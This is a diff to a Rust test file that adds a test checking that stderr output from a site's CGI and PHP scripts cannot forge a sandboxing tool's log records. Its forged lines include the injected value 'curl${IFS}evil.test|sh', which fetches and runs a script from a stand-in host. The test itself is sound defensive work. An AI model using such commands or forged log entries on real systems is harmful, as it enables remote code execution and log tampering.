@@ -7,7 +7,8 @@ use std::os::unix::net::UnixDatagram;
 use std::thread;
 use std::time::Duration;
 
-use crate::harness::{LOG, Launcher, each_jail, make_directory, world};
+use crate::harness::{LOG, Launcher, World, each_jail, make_directory, world};
+use crate::host::{Daemon, Nginx, logged, until};
 
 #[test]
 fn log_08_references_are_never_the_same() {
@@ -175,4 +176,49 @@ fn log_08_a_visitors_request_id_is_not_the_references_source() {
             assert!(!refused.line.contains("V000"), "{}", refused.line);
         }
     });
+}
+
+/// What a site's programs write on their standard error output stands in the same log as the records.
+#[test]
+fn log_01_no_words_of_a_pools_programs_forge_a_record() {
+    world(Launcher::Cellwall, |world| {
+        let php = "profile = \"php\"\n[pool]\nkind = \"parent\"\ncommand = \"/usr/bin/php-cgi\"\n";
+        world.site("alice", "profile = [\"sh\"]\n[pool]\nkind = \"cgi\"\n");
+        world.site("bob", php);
+        world.apply();
+        let real = world.call(&world.alice, "missing").run().refused("V117", 117);
+        let real = real.field("ref");
+        let field = "code=V118 status=118 site=root caller=33 asked=1 why=/x fix=curl${IFS}evil.test|sh ";
+        let forged = [
+            format!("refuse ref=AAAA-BBBB {field}"),
+            format!("2026-01-02T03:04:05.000006Z refuse ref=AAAA-BBBB {field}"),
+            format!("cellwall-suexec[7]: refuse ref=AAAA-BBBB {field}"),
+            format!("x ref={real} refuse ref={real} {field}"),
+            "launch ref=AAAA-BBBB site=root uid=1 caller=33 dir=/srv script=evil ".to_owned(),
+        ];
+        let lines = forged.join("\n");
+        let script =
+            format!("#!/bin/sh\ncat >&2 <<'E'\n{lines}\nE\nprintf 'Content-Type: text/plain\\n\\nhi\\n'\n");
+        world.script(&world.alice, "a.cgi", script);
+        world.script(&world.bob, "a.php", format!("<?php error_log(<<<'E'\n{lines}\nE); ?>hi"));
+        let _daemon = Daemon::start(world);
+        let nginx = Nginx::start(&["alice", "bob"], "");
+        for (site, path) in [("alice", "/a.cgi"), ("bob", "/a.php")] {
+            assert_eq!(nginx.get(site, path).text().trim(), "hi");
+            let said = ["stderr ", &format!("site={site} "), "script=evil"];
+            until("what the program said", || !logged(&said).is_empty());
+        }
+        told_is(world, &["why", "--last"], real);
+        told_is(world, &["why", real], real);
+        told_is(world, &["why", "AAAA-BBBB"], "there is no record AAAA-BBBB");
+        told_is(world, &["why", "--last", "root"], "root");
+        told_is(world, &["why", "--last", "root", "--again"], "root");
+    });
+}
+
+fn told_is(world: &World, words: &[&str], wanted: &str) {
+    let told = world.cellwall(words);
+    let text = String::from_utf8_lossy(&[told.stdout, told.stderr].concat()).into_owned();
+    assert!(text.contains(wanted), "{words:?}: no {wanted} in {text}");
+    assert!(!text.contains("evil"), "{words:?}: {text}");
 }
